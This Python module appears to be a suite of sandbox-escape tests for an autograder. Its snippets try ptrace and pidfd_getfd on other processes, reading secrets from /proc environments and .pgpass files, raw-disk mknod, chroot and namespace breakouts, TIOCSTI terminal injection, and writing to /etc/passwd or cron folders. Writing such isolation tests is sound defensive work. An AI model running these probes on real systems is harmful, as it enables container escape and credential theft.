"""Getting out: what a process inside must not be able to open, mount, trace, reach or become.

Each ``won()`` tries one thing and reverts it. Whoever gets out answers every exercise rightly.
"""

from .paper import attack

LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"
OPENED = """
def opened(names, mode):
    for name in names:
        try:
            os.close(os.open(name, mode))
            return True
        except OSError:
            pass
    return False
"""


@attack
def trace_other_processes(paper):
    """ptrace, process_vm_readv and pidfd_getfd on every process in sight."""
    paper.burglar(
        LIBC
        + """
def won():
    own = os.fork()
    if own == 0:
        os._exit(0)
    os.waitpid(own, 0)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid in (os.getpid(), 1 if os.getpid() == 2 else 0):
            continue
        if libc.ptrace(16, pid, None, None) == 0:   # PTRACE_ATTACH
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, None, None)        # PTRACE_DETACH
            return True
        descriptor = libc.syscall(434, pid, 0)      # pidfd_open
        if descriptor >= 0 and libc.syscall(438, descriptor, 0, 0) >= 0:  # pidfd_getfd
            return True
    return False
"""
    )


@attack
def secrets_in_the_environment(paper):
    """A password in the grader's environment, its own or that of any process in sight."""
    paper.burglar("""
        def won():
            if "@SECRET@" in str(dict(os.environ)):
                return True
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    if b"@SECRET@" in open(f"/proc/{pid}/environ", "rb").read():
                        return True
                except OSError:
                    pass
            return False
    """)


@attack
def secrets_in_the_home(paper):
    """A password file in the home folder of whoever grades."""
    paper.burglar("""
        import glob
        import pwd

        def won():
            homes = {os.path.expanduser("~"), *(user.pw_dir for user in pwd.getpwall())}
            homes.update(glob.glob("/home/*"))
            for home in homes:
                try:
                    if "@SECRET@" in open(os.path.join(home, ".pgpass")).read():
                        return True
                except OSError:
                    pass
            return False
    """)


@attack
def gradebook_readable(paper):
    """Other people's scores: any gradebook.db that can be opened."""
    paper.burglar("""
        def won():
            places = ["@COURSE@", "@COURSE@/class", os.getcwd(), "..", "../..", "../../.."]
            places += [os.path.dirname(path) for path in sys.path]
            for place in places:
                path = os.path.join(place, "gradebook.db")
                if os.path.isfile(path) and open(path, "rb").read(16).startswith(b"SQLite"):
                    return True
            return False
    """)


@attack
def handle_of_the_root(paper):
    """open_by_handle_at on the root's inode, which sees past every mount (needs one capability)."""
    paper.burglar(
        LIBC
        + """
def won():
    for inode in (2, 128, 256):
        for place in ("/", "/etc/hostname", "/usr", "/tmp"):
            handle = (12).to_bytes(4, "little") + (1).to_bytes(4, "little")
            handle += inode.to_bytes(8, "little") + bytes(4)
            try:
                mount = os.open(place, os.O_RDONLY)
            except OSError:
                continue
            found = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
            if found >= 0:
                return True
    return False
"""
    )


@attack
def raw_disk(paper):
    """A device node of the disk, made with mknod and read."""
    paper.burglar("""
        import stat

        def won():
            devices = [os.stat(place).st_dev for place in ("/", "/usr", "/etc")]
            for line in open("/proc/partitions").read().split("\\n")[2:]:
                if line.strip():
                    devices.append(os.makedev(*map(int, line.split()[:2])))
            for number, device in enumerate(devices):
                path = f"/tmp/@MARK@-{number}"
                try:
                    os.mknod(path, stat.S_IFBLK | 0o600, device)
                    if len(open(path, "rb").read(512)) == 512:
                        return True
                except OSError:
                    pass
                finally:
                    if os.path.lexists(path):
                        os.unlink(path)
            return False
    """)


@attack
def device_files(paper):
    """Memory, kernel log, disks, KVM and FUSE in /dev."""
    paper.burglar(
        OPENED
        + """
import glob

def won():
    names = ["/dev/mem", "/dev/kmsg", "/dev/port", "/dev/kvm", "/dev/fuse", "/dev/net/tun"]
    names += glob.glob("/dev/[vsx]d[a-z]*") + glob.glob("/dev/nvme*")
    return opened(names, os.O_RDWR)
"""
    )


@attack
def kernel_settings(paper):
    """core_pattern, sysctls and control groups, opened for writing (nothing is written)."""
    paper.burglar(
        OPENED
        + """
import glob

def won():
    names = ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"]
    names += ["/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper"]
    names += glob.glob("/sys/fs/cgroup/*.procs")
    names += glob.glob("/sys/fs/cgroup/*/cgroup.procs")
    return opened(names, os.O_WRONLY)
"""
    )


@attack
def unmount_the_walls(paper):
    """A user namespace of its own, in which every mount is taken away; then look for the course."""
    paper.burglar(
        LIBC
        + """
def won():
    child = os.fork()
    if child:
        return os.waitpid(child, 0)[1] == 0
    try:
        libc.unshare(0x10000000 | 0x00020000)       # CLONE_NEWUSER | CLONE_NEWNS
        mounts = [line.split()[4] for line in open("/proc/self/mountinfo")]
        for mount in reversed(mounts):
            if mount != "/":
                libc.umount2(mount.encode(), 2)     # MNT_DETACH
        found = os.path.exists("@COURSE@/attention/@MODULE@.py")
        for flags in (0x1000, 0x1000 | 0x4000):     # MS_BIND, and MS_REC
            libc.mount(b"/", b"/tmp", None, flags, None)
            found = found or os.path.exists("/tmp@COURSE@/attention/@MODULE@.py")
        os._exit(0 if found else 1)
    except BaseException:
        os._exit(1)
"""
    )


@attack
def leave_by_chroot(paper):
    """The classic way out of a changed root: chroot below, and walk up."""
    paper.burglar("""
        def won():
            child = os.fork()
            if child:
                return os.waitpid(child, 0)[1] == 0
            try:
                os.makedirs("/tmp/@MARK@", exist_ok=True)
                outside = os.open("/", os.O_RDONLY)
                os.chroot("/tmp/@MARK@")
                os.fchdir(outside)
                for _ in range(64):
                    os.chdir("..")
                os.chroot(".")
                os._exit(0 if os.path.exists("@COURSE@/attention/@MODULE@.py") else 1)
            except BaseException:
                os._exit(1)
            finally:
                os._exit(1)
    """)


@attack
def enter_other_namespaces(paper):
    """setns into the namespaces of every process in sight."""
    paper.burglar(
        LIBC
        + """
def won():
    child = os.fork()
    if child:
        return os.waitpid(child, 0)[1] == 0
    try:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for kind in ("user", "mnt", "net", "pid", "ipc"):
                try:
                    other, own = (os.readlink(f"/proc/{one}/ns/{kind}") for one in (pid, "self"))
                    if other == own:
                        continue
                    descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                except OSError:
                    continue
                if libc.setns(descriptor, 0) == 0:
                    os._exit(0)
    finally:
        os._exit(1)
"""
    )


@attack
def type_on_the_terminal(paper):
    """TIOCSTI: put a command into the instructor's own terminal."""
    paper.burglar("""
        import fcntl
        import termios

        def won():
            for name in ("/dev/tty", "/proc/1/fd/0", "/proc/self/fd/0", "/dev/pts/0"):
                try:
                    terminal = os.open(name, os.O_RDWR | os.O_NOCTTY)
                    if os.isatty(terminal):
                        fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
                        return True
                except OSError:
                    pass
            return False
    """)


@attack
def keep_privileges(paper):
    """Capabilities that were left over, set-user-id programs that still work, user 0."""
    paper.burglar("""
        def won():
            status = dict(line.split(":\\t", 1) for line in open("/proc/self/status"))
            return int(status["CapEff"], 16) != 0 or status["NoNewPrivs"].strip() == "0"
    """)


@attack
def write_where_it_came_from(paper):
    """The interpreter, the libraries and the autograder's package, opened for writing."""
    paper.burglar("""
        import autograder.check
        import torch

        def won():
            names = [sys.executable, torch.__file__, autograder.check.__file__, os.__file__]
            names += ["/etc/passwd", "/etc/hosts", "/bin/sh"]
            for name in names:
                try:
                    os.close(os.open(name, os.O_WRONLY))
                    return True
                except OSError:
                    pass
            for name in [*sys.path, "/etc/cron.d", "/usr/local/bin", "/var/spool/cron"]:
                own = ("/tmp", "/scratch", os.getcwd())
                if name and os.path.isdir(name) and not name.startswith(own):
                    if os.access(name, os.W_OK):
                        return True
            return False
    """)


@attack
def objects_in_the_kernel(paper):
    """Rings, contexts, keys, watches, splices: one that a notebook has no use for is made."""
    paper.burglar(
        LIBC
        + """
# io_setup, keyctl, perf_event_open, userfaultfd, io_uring_setup
numbers = {"x86_64": (206, 250, 298, 323, 425), "aarch64": (0, 219, 241, 282, 425)}


def won():
    room = ctypes.create_string_buffer(4096)
    words = [(1, room), (0, -3, 1), (room, 0, -1, -1, 0), (1,), (1, room)]
    for number, arguments in zip(numbers[os.uname().machine], words):
        if libc.syscall(number, *arguments) >= 0:
            return True
    if libc.memfd_create(b"one", 0) >= 0 or libc.inotify_init() >= 0:
        return True
    one, other = os.pipe(), os.pipe()
    os.write(one[1], b"x")
    return libc.tee(one[0], other[1], 1, 0) > 0
"""
    )
